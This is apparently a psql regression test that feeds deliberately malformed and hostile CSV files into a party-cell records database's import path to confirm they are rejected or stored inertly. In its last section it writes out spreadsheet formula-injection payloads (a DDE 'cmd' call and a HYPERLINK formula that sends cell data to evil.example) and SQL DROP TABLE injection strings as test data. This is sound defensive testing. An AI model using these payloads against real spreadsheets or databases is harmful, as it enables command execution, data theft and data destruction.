-- Hostile import files (docs/import.md, "Hostile files"): wrong column
-- counts and headers, wrong encodings, huge fields, control characters,
-- formula-looking and SQL-looking text.  Every file goes through the
-- contract's loading path: psql's \copy of the staging table, CSV HEADER,
-- then chibo.import_staged().  The files are in test/data/hostile/
-- (make_files.py there writes them); the huge ones are written by this
-- test into its results folder.
--
-- After each batch: what \copy refused (SQLSTATE, message, line), what
-- import_staged() accepted and rejected, the rejects' reasons, and the row
-- counts of every chibo table.
SELECT regress.reset();

-- The base: the good batch of test/sql/import.sql.
\cd test/data/import/small
\i ../contract.sql
\cd ../../hostile

-- Helpers.  visible(t): t with every control, invisible or direction
-- character written as <U+XXXX>, so that this file shows what is stored.
CREATE FUNCTION pg_temp.visible(t text) RETURNS text LANGUAGE sql IMMUTABLE AS $$
    SELECT string_agg(CASE WHEN c ~ '[\x01-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]'
                           THEN '<U+' || upper(lpad(to_hex(ascii(c)), 4, '0')) || '>' ELSE c END, '' ORDER BY n)
      FROM regexp_split_to_table(t, '') WITH ORDINALITY AS x(c, n)
$$;
-- A reason a secretary can act on: no hidden characters, and short (a
-- huge bad value is not repeated whole).
CREATE FUNCTION pg_temp.readable(reason text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$
    SELECT reason !~ '[\x01-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]'
           AND length(reason) <= 300
$$;
-- Row counts of every chibo data table, on one line.
CREATE FUNCTION pg_temp.counts() RETURNS text LANGUAGE sql AS $$
    SELECT format('units %s, members %s, memberships %s, exemptions %s, meetings %s, attendance %s, '
                  'task_registrations %s, schemes %s, assessments %s, classifications %s',
                  (SELECT count(*) FROM chibo.units), (SELECT count(*) FROM chibo.members),
                  (SELECT count(*) FROM chibo.memberships), (SELECT count(*) FROM chibo.exemptions),
                  (SELECT count(*) FROM chibo.meetings), (SELECT count(*) FROM chibo.attendance),
                  (SELECT count(*) FROM chibo.task_registrations), (SELECT count(*) FROM chibo.schemes),
                  (SELECT count(*) FROM chibo.assessments), (SELECT count(*) FROM chibo.classifications))
$$;
-- Rows waiting in staging, all nine tables.
CREATE FUNCTION pg_temp.staged() RETURNS bigint LANGUAGE sql AS $$
    SELECT (SELECT count(*) FROM chibo_import.units) + (SELECT count(*) FROM chibo_import.members)
         + (SELECT count(*) FROM chibo_import.memberships) + (SELECT count(*) FROM chibo_import.exemptions)
         + (SELECT count(*) FROM chibo_import.meetings) + (SELECT count(*) FROM chibo_import.attendance)
         + (SELECT count(*) FROM chibo_import.task_registrations) + (SELECT count(*) FROM chibo_import.assessments)
         + (SELECT count(*) FROM chibo_import.classifications)
$$;
-- The rejects of the last batch (the last import_staged()), hidden
-- characters made visible, cut at 150 characters.
CREATE FUNCTION pg_temp.last_rejects() RETURNS TABLE (file text, line bigint, reason text, readable boolean)
LANGUAGE sql AS $$
    SELECT r.file, r.line, pg_temp.visible(left(r.reason, 150)), pg_temp.readable(r.reason)
      FROM chibo_import.rejects r
     WHERE r.batch = (SELECT last_value FROM chibo_import.batch_seq)
     ORDER BY r.file, r.line
$$;
SELECT pg_temp.counts() AS base;

---------------------------------------------------------------------------
-- 1. Wrong column counts, headers, line ends and separators.
---------------------------------------------------------------------------
-- A row with one field too many (an unquoted comma in a name) or too few:
-- \copy refuses the whole file with 22P04 (bad_copy_file_format), naming
-- the line; nothing of the file is staged.  The contract's lines work for
-- files with exactly the contract's columns; other files do not load.
-- (Each refusal is shown twice: its SQLSTATE, then its message.)
\set VERBOSITY sqlstate
\copy chibo_import.units           FROM 'units_too_many.csv'           CSV HEADER
\set VERBOSITY default
\copy chibo_import.units           FROM 'units_too_many.csv'           CSV HEADER
\set VERBOSITY sqlstate
\copy chibo_import.members         FROM 'members_too_few.csv'          CSV HEADER
\set VERBOSITY default
\copy chibo_import.members         FROM 'members_too_few.csv'          CSV HEADER
SELECT pg_temp.staged() AS staged_rows;

-- CSV HEADER skips the first line without reading it.  The right columns
-- in another order load shifted: a swapped minutes and topic is caught by
-- the checks (below); a swapped code and name is not (both are free text)
-- and would be stored.  Loaded with HEADER MATCH instead (PostgreSQL 15),
-- the same file is refused, 22P04.
\copy chibo_import.meetings        FROM 'meetings_columns_swapped.csv' CSV HEADER
BEGIN;
\copy chibo_import.units           FROM 'units_columns_swapped.csv'    CSV HEADER
SELECT code, name FROM chibo_import.units;
ROLLBACK;
\copy chibo_import.units           FROM 'units_columns_swapped.csv'    WITH (FORMAT csv, HEADER match)
-- A file without its header row loses its first row to CSV HEADER.
\copy chibo_import.members         FROM 'members_no_header.csv'        CSV HEADER
SELECT code FROM chibo_import.members;
-- Two exports glued together: the second header line (with its byte order
-- mark) is a data row, rejected below.
\copy chibo_import.members         FROM 'members_concatenated.csv'     CSV HEADER
-- A line holding only \. ends the data of a CSV COPY: the rows after it
-- (TH-0308) are not loaded, and there is no error.  Inside a quoted field,
-- such a line makes \copy refuse the file (22P04).
\copy chibo_import.members         FROM 'members_end_marker.csv'       CSV HEADER
\set VERBOSITY sqlstate
\copy chibo_import.members         FROM 'members_end_marker_quoted.csv' CSV HEADER
\set VERBOSITY default
\copy chibo_import.members         FROM 'members_end_marker_quoted.csv' CSV HEADER
SELECT pg_temp.visible(code) AS code FROM chibo_import.members;
-- Line ends and separators.  Windows line ends (CRLF) load.  Mixed line
-- ends, a blank last line, or semicolons for commas (Excel's "CSV" where
-- the decimal mark is a comma) make \copy refuse the file, 22P04.
\copy chibo_import.units           FROM 'units_crlf.csv'               CSV HEADER
\set VERBOSITY sqlstate
\copy chibo_import.units           FROM 'units_mixed_eol.csv'          CSV HEADER
\copy chibo_import.units           FROM 'units_blank_last_line.csv'    CSV HEADER
\copy chibo_import.units           FROM 'units_semicolon.csv'          CSV HEADER
\set VERBOSITY default
\copy chibo_import.units           FROM 'units_mixed_eol.csv'          CSV HEADER
\copy chibo_import.units           FROM 'units_blank_last_line.csv'    CSV HEADER
\copy chibo_import.units           FROM 'units_semicolon.csv'          CSV HEADER
-- Spaces around a value are part of it: "TH.BUOI.53 " is a code of its
-- own, " false" is not false, "2021-01-01 " is not a date.
\copy chibo_import.units           FROM 'units_spaces.csv'             CSV HEADER
SELECT '[' || code || ']' AS code, '[' || name || ']' AS name, '[' || grassroots || ']' AS grassroots,
       '[' || valid_from || ']' AS valid_from FROM chibo_import.units;
SELECT * FROM chibo.import_staged() WHERE accepted + rejected > 0;
SELECT * FROM pg_temp.last_rejects();
SELECT code FROM chibo.members WHERE code LIKE 'TH-03%' ORDER BY code;
SELECT '[' || code || ']' AS code, '[' || name || ']' AS name FROM chibo.units WHERE code LIKE 'TH.BUOI.5%' ORDER BY code;
SELECT pg_temp.counts() AS after_columns;

-- Loading a batch all or nothing: the \copy lines and import_staged() in
-- one transaction (psql -1 -v ON_ERROR_STOP=1 -f batch.sql does this).
-- A refused file then stops the batch and leaves nothing staged.
BEGIN;
\copy chibo_import.members         FROM 'members_concatenated.csv'     CSV HEADER
\copy chibo_import.units           FROM 'units_too_many.csv'           CSV HEADER
SELECT * FROM chibo.import_staged();
ROLLBACK;
SELECT pg_temp.staged() AS staged_rows, pg_temp.counts() AS unchanged;

---------------------------------------------------------------------------
-- 2. Encodings.  Files are UTF-8 (the session's client_encoding, UTF8
-- here): \copy checks every byte, header included, and refuses a file with
-- an invalid sequence, 22021 (character_not_in_repertoire), naming the
-- bytes and the line.  Nothing of the file is staged.
---------------------------------------------------------------------------
SHOW client_encoding;
\set VERBOSITY sqlstate
\copy chibo_import.members         FROM 'members_latin1.csv'           CSV HEADER
\copy chibo_import.members         FROM 'members_windows1258.csv'      CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_overlong.csv'      CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_surrogate.csv'     CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_truncated.csv'     CSV HEADER
\copy chibo_import.meetings        FROM 'meetings_utf16.csv'           CSV HEADER
\set VERBOSITY default
\copy chibo_import.members         FROM 'members_latin1.csv'           CSV HEADER
\copy chibo_import.members         FROM 'members_windows1258.csv'      CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_overlong.csv'      CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_surrogate.csv'     CSV HEADER
\copy chibo_import.units           FROM 'units_utf8_truncated.csv'     CSV HEADER
\copy chibo_import.meetings        FROM 'meetings_utf16.csv'           CSV HEADER
SELECT pg_temp.staged() AS staged_rows;
-- The session's client_encoding decides how \copy reads the bytes: with
-- WIN1258 (psql in a Vietnamese Windows console), a good UTF-8 file loads
-- without an error, as nonsense.  Hence \encoding UTF8 before the lines.
BEGIN;
SET LOCAL client_encoding = 'WIN1258';
\copy chibo_import.units           FROM 'units_bom.csv'                CSV HEADER
RESET client_encoding;
SELECT code, pg_temp.visible(name) AS name FROM chibo_import.units;
ROLLBACK;
-- A Windows-1258 file loads right when \copy is told its encoding.  Its
-- accents come as combining marks: the name looks the same as the one
-- typed in UTF-8 but is another string until normalized (NFC).
BEGIN;
\copy chibo_import.members         FROM 'members_windows1258.csv'      WITH (FORMAT csv, HEADER true, ENCODING 'WIN1258')
SELECT code, full_name, full_name = 'Nguyễn Văn An' AS same_as_typed,
       normalize(full_name, NFC) = 'Nguyễn Văn An' AS same_after_nfc
FROM chibo_import.members;
ROLLBACK;
-- UTF-16 without a byte order mark: every other byte is NUL, and psql
-- reads a line only up to its first NUL.  The file loads as nothing, with
-- no error: staged_rows stays 0.  (psql's behaviour, before chibo sees
-- anything: compare "COPY n" with the file's rows.)
\copy chibo_import.meetings        FROM 'meetings_utf16_nobom.csv'     CSV HEADER
SELECT pg_temp.staged() AS staged_rows;
-- A NUL byte inside a line: psql cuts the line there, and \copy refuses
-- the rest of it (22P04).  In the last field of the last line, the cut
-- goes unseen: ",other<NUL> (moved abroad)" loads as "other".
\copy chibo_import.units           FROM 'units_nul.csv'                CSV HEADER
\copy chibo_import.members         FROM 'members_nul_last.csv'         CSV HEADER
-- A UTF-8 byte order mark at the start is part of the header line, which
-- CSV HEADER skips: the file loads, and the first code has no trace of it.
\copy chibo_import.units           FROM 'units_bom.csv'                CSV HEADER
SELECT * FROM chibo.import_staged() WHERE accepted + rejected > 0;
SELECT * FROM pg_temp.last_rejects();
SELECT code, octet_length(code) AS bytes, name FROM chibo.units WHERE code = 'TH.BUOI.14';
SELECT code, full_name, left_reason FROM chibo.members WHERE code = 'TH-0313';
SELECT pg_temp.counts() AS after_encodings;

---------------------------------------------------------------------------
-- 3. Huge fields, written by this test into its results folder and loaded
-- with the contract's lines: a 1 MB name, a 50 MB topic, a 1 MB reason,
-- numbers of 1,000 digits, dates far out of range.  Legal values are
-- stored whole; bad ones are rejected with a short reason (the value is not
-- repeated whole).
---------------------------------------------------------------------------
\getenv abs_builddir PG_ABS_BUILDDIR
\cd :abs_builddir/results
CREATE TEMP TABLE huge_units AS
SELECT * FROM (VALUES
    ('TH.BUOI.31', 'TH.BUOI', repeat('Chi bộ tổ dân phố số 31, ', 40000), 'cell', 'false', 'residential', '2021-01-01', NULL),
    ('TH.BUOI.32', 'TH.BUOI', 'Ngày bắt đầu 1 MB', 'cell', 'false', 'residential', repeat('2021-01-01', 100000), NULL),
    ('TH.BUOI.33', 'TH.BUOI', 'Ngày quá xa', 'cell', 'false', 'residential', '2021-01-01', '10000-01-01'),
    ('TH.BUOI.34', 'TH.BUOI', 'Ngày vô hạn', 'cell', 'false', 'residential', '2021-01-01', 'infinity')
) AS v(code, parent_code, name, kind, grassroots, cell_type, valid_from, valid_to);
CREATE TEMP TABLE huge_members AS
SELECT * FROM (VALUES
    ('TH-0351', repeat('Nguyễn Thị Minh Khai ', 50000), 'female', '1970-01-01', '2000-01-01', NULL, NULL, NULL),
    ('TH-0352', 'Ngày sinh 1000 chữ số', 'male', repeat('1', 1000), '2000-01-01', NULL, NULL, NULL),
    ('TH-0353', 'Sinh năm 1', 'male', '0001-01-01', '2000-01-01', NULL, NULL, NULL),
    ('TH-0354', 'Kết nạp năm 9999', 'male', '1970-01-01', '9999-12-31', NULL, NULL, NULL),
    ('TH-0355', 'Năm 10000', 'male', '10000-01-01', '2000-01-01', NULL, NULL, NULL),
    ('TH-0356', 'Trước công nguyên', 'male', '1970-01-01 BC', '2000-01-01', NULL, NULL, NULL),
    ('TH-0357', 'Dấu cộng', 'male', '+1970-01-01', '2000-01-01', NULL, NULL, NULL),
    ('TH-0358', 'Epoch', 'male', 'epoch', '2000-01-01', NULL, NULL, NULL),
    ('TH-0359', 'Âm vô hạn', 'male', '-infinity', '2000-01-01', NULL, NULL, NULL)
) AS v(code, full_name, gender, birth_date, admitted_on, full_member_on, left_on, left_reason);
CREATE TEMP TABLE huge_exemptions AS
SELECT 'TH-0005' AS member_code, '2024-01-01' AS from_date, NULL::text AS to_date,
       repeat('Lý do rất dài. ', 70000) AS reason;
CREATE TEMP TABLE huge_meetings AS
SELECT * FROM (VALUES
    ('TH.BUOI.01', '2023-10-20', 'regular', repeat('Học tập và làm theo tư tưởng, đạo đức, phong cách Hồ Chí Minh. ', 650000), '120'),
    ('TH.BUOI.01', '2023-10-21', 'regular', repeat('Kiểm điểm ', 100000), NULL),
    ('TH.BUOI.01', '2023-10-22', 'regular', 'Số phút 1000 chữ số', repeat('9', 1000)),
    ('TH.BUOI.01', '9999-12-31', 'regular', 'Năm 9999', NULL),
    ('TH.BUOI.01', '0001-01-01', 'regular', 'Năm 1', NULL)
) AS v(unit_code, held_on, kind, topic, minutes);
CREATE TEMP TABLE huge_tasks AS
SELECT 'TH-0002' AS member_code, repeat('2', 1000) AS year, 'new' AS kind, 'Năm 1000 chữ số' AS title, NULL::text AS outcome;
CREATE TEMP TABLE huge_classifications AS
SELECT * FROM (VALUES
    ('member', 'TH-0001', '2024', 'good', repeat('9', 1000)),
    ('member', 'TH-0001', '2022', 'good', '0.' || repeat('0', 998) || '1')
) AS v(subject_kind, subject_code, year, grade, score);
\copy (SELECT * FROM huge_units) TO 'hostile_units.csv' CSV HEADER
\copy (SELECT * FROM huge_members) TO 'hostile_members.csv' CSV HEADER
\copy (SELECT * FROM huge_exemptions) TO 'hostile_exemptions.csv' CSV HEADER
\copy (SELECT * FROM huge_meetings) TO 'hostile_meetings.csv' CSV HEADER
\copy (SELECT * FROM huge_tasks) TO 'hostile_tasks.csv' CSV HEADER
\copy (SELECT * FROM huge_classifications) TO 'hostile_classifications.csv' CSV HEADER
\copy chibo_import.units           FROM 'hostile_units.csv'           CSV HEADER
\copy chibo_import.members         FROM 'hostile_members.csv'         CSV HEADER
\copy chibo_import.exemptions      FROM 'hostile_exemptions.csv'      CSV HEADER
\copy chibo_import.meetings        FROM 'hostile_meetings.csv'        CSV HEADER
\copy chibo_import.task_registrations FROM 'hostile_tasks.csv'      CSV HEADER
\copy chibo_import.classifications FROM 'hostile_classifications.csv' CSV HEADER
SELECT * FROM chibo.import_staged() WHERE accepted + rejected > 0;
-- The reasons up to the bad value (the text before its first quote).
SELECT file, line, left(split_part(reason, '''', 1), 100) AS reason_up_to_the_value, length(reason) <= 300 AS short
FROM chibo_import.rejects WHERE batch = (SELECT last_value FROM chibo_import.batch_seq) ORDER BY file, line;
-- Stored whole, byte for byte.
SELECT u.code, length(u.name), md5(u.name) = md5(h.name) AS exact
FROM chibo.units u JOIN huge_units h USING (code) ORDER BY u.code;
SELECT m.code, length(m.full_name), md5(m.full_name) = md5(h.full_name) AS exact, m.birth_date, m.admitted_on
FROM chibo.members m JOIN huge_members h USING (code) ORDER BY m.code;
SELECT mt.held_on, octet_length(mt.topic) AS topic_bytes, md5(mt.topic) = md5(h.topic) AS exact
FROM chibo.meetings mt JOIN huge_meetings h ON h.held_on = to_char(mt.held_on, 'YYYY-MM-DD')
WHERE mt.unit_id = (SELECT id FROM chibo.units WHERE code = 'TH.BUOI.01') ORDER BY mt.held_on;
-- The rejected rows are kept whole too.
SELECT file, line, length("row"::text) > 1000000 AS kept_whole
FROM chibo_import.rejects WHERE batch = (SELECT last_value FROM chibo_import.batch_seq)
AND length("row"::text) > 100000 ORDER BY file, line;
SELECT pg_temp.counts() AS after_huge;

-- Keys too long to index: a unit code and a member code of 10,000
-- characters, a task title of 1 MB and one of 3,200 characters that do not
-- compress.  The contract sets no length limit, but a btree index holds at
-- most 2,704 bytes, so these cannot be stored: each row is rejected with a
-- reason that says so; the good rows of the batch are applied.
CREATE TEMP TABLE long_code AS
SELECT string_agg(upper(md5(i::text)), '') AS noise FROM generate_series(1, 313) i;
CREATE TEMP TABLE long_units AS
SELECT left(noise, 10000) AS code, 'TH.BUOI' AS parent_code, 'Mã 10000 ký tự' AS name, 'cell' AS kind,
       'false' AS grassroots, 'residential' AS cell_type, '2021-01-01' AS valid_from, NULL::text AS valid_to
  FROM long_code
UNION ALL SELECT 'TH.BUOI.41', 'TH.BUOI', 'Chi bộ tổ dân phố số 41', 'cell', 'false', 'residential', '2021-01-01', NULL
UNION ALL SELECT 'TH.BUOI.42', left(noise, 10000), 'Cha 10000 ký tự', 'cell', 'false', 'residential', '2021-01-01', NULL
  FROM long_code;
CREATE TEMP TABLE long_members AS
SELECT left(noise, 10000) AS code, 'Mã 10000 ký tự' AS full_name, 'male' AS gender, NULL::text AS birth_date,
       '2005-01-01' AS admitted_on, NULL::text AS full_member_on, NULL::text AS left_on, NULL::text AS left_reason
  FROM long_code
UNION ALL SELECT 'TH-0361', 'Trịnh Văn Sơn', 'male', NULL, '2005-01-01', NULL, NULL, NULL;
CREATE TEMP TABLE long_tasks AS
SELECT 'TH-0002' AS member_code, '2024' AS year, 'new' AS kind, repeat('Số hóa hồ sơ đảng viên. ', 45000) AS title,
       NULL::text AS outcome
UNION ALL SELECT 'TH-0002', '2024', 'difficult', left(noise, 3200), NULL FROM long_code
UNION ALL SELECT 'TH-0002', '2024', 'new', 'Hướng dẫn đảng viên mới', NULL;
\copy (SELECT * FROM long_units) TO 'hostile_long_units.csv' CSV HEADER
\copy (SELECT * FROM long_members) TO 'hostile_long_members.csv' CSV HEADER
\copy (SELECT * FROM long_tasks) TO 'hostile_long_tasks.csv' CSV HEADER
\copy chibo_import.units           FROM 'hostile_long_units.csv'      CSV HEADER
\copy chibo_import.members         FROM 'hostile_long_members.csv'    CSV HEADER
\copy chibo_import.task_registrations FROM 'hostile_long_tasks.csv'   CSV HEADER
SELECT * FROM chibo.import_staged() WHERE accepted + rejected > 0;
-- Each reason says how long the value is, and is short.
SELECT file, line, reason ~ '(10,?000|3,?200|1,?080,?000)' AS says_length, length(reason) <= 300 AS short
FROM chibo_import.rejects WHERE batch = (SELECT last_value FROM chibo_import.batch_seq) ORDER BY file, line;
SELECT code FROM chibo.units WHERE code IN ('TH.BUOI.41', 'TH.BUOI.42') OR length(code) > 100 ORDER BY code;
SELECT code FROM chibo.members WHERE code = 'TH-0361' OR length(code) > 100;
SELECT kind, left(title, 30) AS title FROM chibo.task_registrations WHERE year = 2024 ORDER BY kind, title;
-- (Whatever happened, nothing is left staged for the next batch.)
TRUNCATE chibo_import.units, chibo_import.members, chibo_import.task_registrations;
SELECT pg_temp.counts() AS after_long_keys;
\cd :abs_builddir
\getenv abs_srcdir PG_ABS_SRCDIR
\cd :abs_srcdir/data/hostile

---------------------------------------------------------------------------
-- 4. Control characters.  Inside a quoted field, tab, CR, LF, CRLF, the
-- controls 0x01-0x1f and 0x7f, escape sequences, zero-width and direction
-- characters load as they are, and free text (names, topics, titles) is
-- stored byte for byte.  In a field with a fixed set of values they make the
-- value wrong, and the reason shows them (<U+200B>), so that 'male<U+200B>'
-- does not read as 'male'.  A CR outside quotes is refused by \copy, 22P04.
---------------------------------------------------------------------------
\set VERBOSITY sqlstate
\copy chibo_import.units           FROM 'units_bare_cr.csv'            CSV HEADER
\set VERBOSITY default
\copy chibo_import.units           FROM 'units_bare_cr.csv'            CSV HEADER
\copy chibo_import.members         FROM 'members_control.csv'          CSV HEADER
\copy chibo_import.meetings        FROM 'meetings_control.csv'         CSV HEADER
\copy chibo_import.attendance      FROM 'attendance_control.csv'       CSV HEADER
\copy chibo_import.task_registrations FROM 'task_registrations_control.csv' CSV HEADER
SELECT * FROM chibo.import_staged() WHERE accepted + rejected > 0;
SELECT * FROM pg_temp.last_rejects();
CREATE TEMP TABLE control_names (code text, full_name text);
INSERT INTO control_names VALUES
    ('TH-0321', E'Tab\there'), ('TH-0322', E'CR\rhere'), ('TH-0323', E'LF\nhere'), ('TH-0324', E'CRLF\r\nhere'),
    ('TH-0325', 'Ctl' || (SELECT string_agg(chr(i), '' ORDER BY i) FROM generate_series(1, 31) i)
                || chr(127) || chr(133) || chr(8232)),
    ('TH-0326', E'\x1b[31mĐỏ\x1b[0m \x1b]0;pwned\x07Tên'),
    ('TH-0327', 'Zero' || chr(8203) || 'width' || chr(8204) || chr(8205) || chr(8288) || chr(65279)),
    ('TH-0328', chr(8238) || 'nA nǎV nễyugN' || chr(8236) || ' ' || chr(8294) || 'x' || chr(8297));
SELECT c.code, pg_temp.visible(m.full_name) AS full_name,
       convert_to(m.full_name, 'UTF8') = convert_to(c.full_name, 'UTF8') AS exact
FROM control_names c LEFT JOIN chibo.members m USING (code) ORDER BY c.code;
SELECT held_on, pg_temp.visible(topic) AS topic,
       topic = E'Dòng 1\r\nDòng 2\n\tThụt lề\x1b[2J\x07' AS exact
FROM chibo.meetings WHERE held_on BETWEEN '2023-10-11' AND '2023-10-12' ORDER BY held_on;
SELECT kind, pg_temp.visible(title) AS title,
       title IN (E'Nhiệm vụ\x01\x02\x1f' || chr(8238) || ' cuối', E'\x1b[1mIn đậm\x1b[0m') AS exact
FROM chibo.task_registrations t JOIN chibo.members m ON m.id = t.member_id
WHERE m.code = 'TH-0002' AND t.year = 2023 AND t.title !~ '^[[:alnum:] ]+$' ORDER BY kind;
SELECT pg_temp.counts() AS after_control;

---------------------------------------------------------------------------
-- 5. Formula-looking text (=cmd|..., +SUM, -1+1, @SUM, =HYPERLINK) and
-- SQL-looking text ('); DROP TABLE ...; --, $$, %I, %L, %s) in every text
-- field and in the codes: data, never evaluated nor executed.  Codes,
-- names, topics and titles are free text and are stored exactly; in fields
-- with a fixed set of values, dates and numbers they are rejected, quoted
-- in the reason as given.
---------------------------------------------------------------------------
\copy chibo_import.units           FROM 'text_units.csv'               CSV HEADER
\copy chibo_import.members         FROM 'text_members.csv'             CSV HEADER
\copy chibo_import.memberships     FROM 'text_memberships.csv'         CSV HEADER
\copy chibo_import.exemptions      FROM 'text_exemptions.csv'          CSV HEADER
\copy chibo_import.meetings        FROM 'text_meetings.csv'            CSV HEADER
\copy chibo_import.attendance      FROM 'text_attendance.csv'          CSV HEADER
\copy chibo_import.task_registrations FROM 'text_task_registrations.csv' CSV HEADER
\copy chibo_import.assessments     FROM 'text_assessments.csv'         CSV HEADER
\copy chibo_import.classifications FROM 'text_classifications.csv'     CSV HEADER
SELECT * FROM chibo.import_staged();
SELECT * FROM pg_temp.last_rejects();
-- Stored as given, byte for byte: each value against the file's text.
CREATE TEMP TABLE given (what text, value text);
INSERT INTO given VALUES
    ('unit code', $v$=cmd|' /C calc'!A0$v$), ('unit name', $v$=cmd|' /C calc'!A0$v$),
    ('unit code', $v$TH'); DROP TABLE chibo.members; --$v$), ('unit name', $v$Robert'); DROP TABLE chibo.units; --$v$),
    ('unit code', $v$$$%I%L%s%%$v$), ('unit name', $v$$$; DROP TABLE chibo.attendance; $$$v$),
    ('unit name', $v$+SUM(1+1)*cmd|' /C calc'!A0$v$), ('unit name', '-1+1'), ('unit name', '@SUM(A1:A9)'),
    ('unit name', $v$=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")$v$),
    ('member code', $v$TH'); DROP TABLE chibo.members; --$v$), ('member name', $v$Robert'); DROP TABLE chibo.members; --$v$),
    ('member code', $v$=cmd|' /C calc'!A0$v$), ('member name', $v$=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")$v$),
    ('member code', $v$$$%I%L%s%%$v$), ('member name', '%s %L %I $1 :x'),
    ('topic', $v$=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")$v$), ('topic', '$$; DROP TABLE chibo.meetings; $$ %s %I'),
    ('title', $v$=cmd|' /C calc'!A0$v$), ('title', $v$'); DROP TABLE chibo.task_registrations; --$v$);
WITH stored AS (
    SELECT 'unit code' AS what, code AS value FROM chibo.units UNION ALL SELECT 'unit name', name FROM chibo.units
    UNION ALL SELECT 'member code', code FROM chibo.members UNION ALL SELECT 'member name', full_name FROM chibo.members
    UNION ALL SELECT 'topic', topic FROM chibo.meetings UNION ALL SELECT 'title', title FROM chibo.task_registrations)
-- (the huge values of section 3 left out: they are not compared here)
SELECT g.what, g.value, count(s.value) AS stored
FROM given g LEFT JOIN stored s ON s.what = g.what AND octet_length(s.value) < 1000
                                AND convert_to(s.value, 'UTF8') = convert_to(g.value, 'UTF8')
GROUP BY g.what, g.value ORDER BY g.what, g.value;
-- What hangs on those codes: a membership in cell "=cmd|...", attendance,
-- an exemption, a task, an assessment, a classification of the member
-- "TH'); DROP TABLE chibo.members; --".
SELECT m.code AS member, u.code AS cell, ms.from_date FROM chibo.memberships ms
JOIN chibo.members m ON m.id = ms.member_id JOIN chibo.units u ON u.id = ms.unit_id
WHERE u.code LIKE '=%' OR m.code LIKE '%DROP%' ORDER BY 1, 2;
SELECT u.code AS cell, mt.held_on, m.code AS member, a.status FROM chibo.attendance a
JOIN chibo.meetings mt ON mt.id = a.meeting_id JOIN chibo.units u ON u.id = mt.unit_id
JOIN chibo.members m ON m.id = a.member_id WHERE u.code LIKE '=%';
-- A reject keeps the row exactly as it was in the file.
SELECT file, line, "row"->>'status' AS status, "row"->>'reason' AS reason FROM chibo_import.rejects
WHERE batch = (SELECT last_value FROM chibo_import.batch_seq)
  AND (file, line) IN (('attendance.csv', 2), ('exemptions.csv', 2)) ORDER BY file;
SELECT count(*) FILTER (WHERE "row"->>'status' = $v$present'; DROP TABLE chibo.attendance; --$v$
                           OR "row"->>'reason' = $v$=cmd|' /C calc'!A0$v$) AS kept_as_given
FROM chibo_import.rejects WHERE batch = (SELECT last_value FROM chibo_import.batch_seq);
-- Nothing was executed: every table is there, and the counts are those of
-- the rows accepted.
SELECT count(*) AS chibo_tables_present FROM unnest(ARRAY['chibo.units', 'chibo.members', 'chibo.memberships',
    'chibo.exemptions', 'chibo.meetings', 'chibo.attendance', 'chibo.task_registrations', 'chibo.schemes',
    'chibo.assessments', 'chibo.classifications', 'chibo_import.rejects']) t WHERE to_regclass(t) IS NOT NULL;
SELECT pg_temp.counts() AS after_text;
SELECT pg_temp.staged() AS staged_rows;
\cd ../../..
